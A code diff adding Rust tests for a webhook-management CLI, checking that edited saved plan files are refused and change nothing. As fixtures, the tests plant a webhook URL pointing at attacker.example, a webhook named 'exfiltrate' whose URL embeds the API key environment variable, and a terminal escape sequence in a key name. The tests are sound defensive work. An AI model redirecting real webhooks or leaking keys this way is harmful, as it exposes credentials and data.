@@ -2,7 +2,9 @@
 //! "Planning": saved plans; "Applying"): `apply PLANFILE` is refused, before any mutating
 //! request, when an organization's live state, an env value the plan uses or the config
 //! given with `-f` changed since planning, or when the file is of an unknown format; a
-//! current one applies without `-f` or `--auto-approve` and converges.
+//! current one applies without `-f` or `--auto-approve` and converges. A saved plan is a file
+//! anyone may edit (issue 15): an edited action, an appended delete, an edited config or one
+//! that breaks the config rules is refused, and nothing changes.
 
 use std::path::Path;
 
@@ -231,4 +233,188 @@ async fn a_current_saved_plan_applies_without_f_or_auto_approve_and_converges() 
         RELAY_URL,
     );
     assert_eq!(plan.code, 0, "{}", plan.stdout);
+}
+
+/// Edits `plan.json` in `dir` with `edit`, keeping it valid JSON.
+fn edit_plan(dir: &Path, edit: impl FnOnce(&mut Value)) {
+    let path = dir.join("plan.json");
+    let mut plan: Value = serde_json::from_str(&std::fs::read_to_string(&path).unwrap()).unwrap();
+    edit(&mut plan);
+    std::fs::write(&path, serde_json::to_string_pretty(&plan).unwrap()).unwrap();
+}
+
+/// The action of `plan` on webhook `name` in organization `org`.
+fn action<'a>(plan: &'a mut Value, org: &str, name: &str) -> &'a mut Value {
+    plan["organizations"]
+        .as_array_mut()
+        .unwrap()
+        .iter_mut()
+        .find(|o| o["slug"] == org)
+        .unwrap()["actions"]
+        .as_array_mut()
+        .unwrap()
+        .iter_mut()
+        .find(|a| a["webhook"] == name)
+        .unwrap()
+}
+
+#[tokio::test]
+async fn a_saved_plan_whose_target_url_was_edited_is_refused_and_nothing_changes() {
+    let dir = tempfile::tempdir().unwrap();
+    let emulator = planned(dir.path());
+    edit_plan(dir.path(), |plan| {
+        action(plan, "acme-3d", "dam-ingest")["target"]["url"]["value"] =
+            json!("https://attacker.example/collect");
+    });
+    assert_refused(
+        &emulator,
+        dir.path(),
+        &[],
+        RELAY_URL,
+        "the saved plan does not hold together: its actions are not the ones its config plans against the same live state",
+    )
+    .await;
+    assert!(emulator.webhooks_named("dam-ingest").await.is_empty());
+}
+
+#[tokio::test]
+async fn a_saved_plan_with_an_appended_delete_of_an_unmanaged_webhook_is_refused() {
+    let dir = tempfile::tempdir().unwrap();
+    let emulator = planned(dir.path());
+    let victim = emulator.webhook_uuid("qa-sandbox").await;
+    edit_plan(dir.path(), |plan| {
+        let globex = plan["organizations"]
+            .as_array_mut()
+            .unwrap()
+            .iter_mut()
+            .find(|o| o["slug"] == "globex")
+            .unwrap();
+        globex["actions"].as_array_mut().unwrap().push(json!({
+            "action": "delete", "webhook": "qa-sandbox", "uuid": victim, "reason": "prune",
+            "changes": [], "target": null
+        }));
+    });
+    assert_refused(
+        &emulator,
+        dir.path(),
+        &[],
+        RELAY_URL,
+        "its actions are not the ones its config plans",
+    )
+    .await;
+    assert_eq!(emulator.webhooks_named("qa-sandbox").await.len(), 1);
+}
+
+#[tokio::test]
+async fn a_saved_plan_whose_config_was_edited_is_refused_by_its_digest() {
+    let dir = tempfile::tempdir().unwrap();
+    let emulator = planned(dir.path());
+    edit_plan(dir.path(), |plan| {
+        plan["config"]["organizations"]["acme-3d"]["webhooks"]["dam-ingest"]["url"] =
+            json!("https://attacker.example/collect");
+    });
+    assert_refused(
+        &emulator,
+        dir.path(),
+        &[],
+        RELAY_URL,
+        "its config does not match its desiredDigest",
+    )
+    .await;
+}
+
+#[tokio::test]
+async fn a_saved_plan_s_config_is_held_to_every_rule_of_a_config_file() {
+    let dir = tempfile::tempdir().unwrap();
+    let emulator = planned(dir.path());
+    edit_plan(dir.path(), |plan| {
+        let hooks = &mut plan["config"]["organizations"]["acme-3d"]["webhooks"];
+        hooks["\u{1b}[2Jforged"] =
+            json!({"url": "https://x.example/h", "events": ["product.added"]});
+        hooks["exfiltrate"] =
+            json!({"url": "https://x.example/?k=${VNTANA_API_KEY}", "events": ["product.added"]});
+    });
+    assert_refused(
+        &emulator,
+        dir.path(),
+        &["--format", "json"],
+        RELAY_URL,
+        "(the saved plan's config)",
+    )
+    .await;
+    let run = saved_cli(
+        &emulator,
+        dir.path(),
+        &["apply", "plan.json", "--format", "json"],
+        RELAY_URL,
+    );
+    let report: Value = serde_json::from_str(&run.stdout).unwrap();
+    let codes: Vec<&str> = report["problems"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|p| p["code"].as_str().unwrap())
+        .collect();
+    assert!(
+        codes.contains(&"env-refused") && codes.contains(&"invalid-value"),
+        "{codes:?}"
+    );
+    assert!(!run.stdout.contains('\u{1b}') && !run.stderr.contains('\u{1b}'));
+}
+
+#[tokio::test]
+async fn reordered_sets_keep_the_config_digest_and_a_saved_plan_checks_convergence_itself() {
+    let dir = tempfile::tempdir().unwrap();
+    let emulator = planned(dir.path());
+    // The same config with its events and folders in another order: no diff, same digest.
+    let reordered = SAVED_CONFIG
+        .replace(
+            "[product.completed, product.published]",
+            "[product.published, product.completed]",
+        )
+        .replace("[emea, americas]", "[americas, emea]");
+    std::fs::write(dir.path().join("reordered.yaml"), reordered).unwrap();
+    let run = saved_cli(
+        &emulator,
+        dir.path(),
+        &["apply", "plan.json", "-f", "reordered.yaml"],
+        RELAY_URL,
+    );
+    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
+    // Without -f too, a saved plan knows its config: the result is checked.
+    let dir = tempfile::tempdir().unwrap();
+    let emulator = planned(dir.path());
+    let run = saved_cli(&emulator, dir.path(), &["apply", "plan.json"], RELAY_URL);
+    assert_eq!(run.code, 0, "{}", run.stderr);
+    assert!(
+        run.stderr.contains("A new plan would be empty"),
+        "{}",
+        run.stderr
+    );
+}
+
+#[cfg(unix)]
+#[tokio::test]
+async fn a_saved_plan_that_is_not_a_regular_file_is_refused_without_waiting() {
+    let dir = tempfile::tempdir().unwrap();
+    let emulator = Emulator::start();
+    let fifo = dir.path().join("plan.json");
+    let made = std::process::Command::new("mkfifo")
+        .arg(&fifo)
+        .status()
+        .unwrap();
+    assert!(made.success());
+    let run = crate::support::cli::output_within(
+        command(dir.path())
+            .args(["apply", "plan.json"])
+            .env("VNTANA_API_URL", &emulator.url)
+            .env("VNTANA_API_KEY", DEMO_KEY),
+        std::time::Duration::from_secs(20),
+    );
+    assert_eq!(run.code, 1, "{}", run.stderr);
+    assert!(
+        run.stderr.contains("is not a regular file"),
+        "{}",
+        run.stderr
+    );
 }
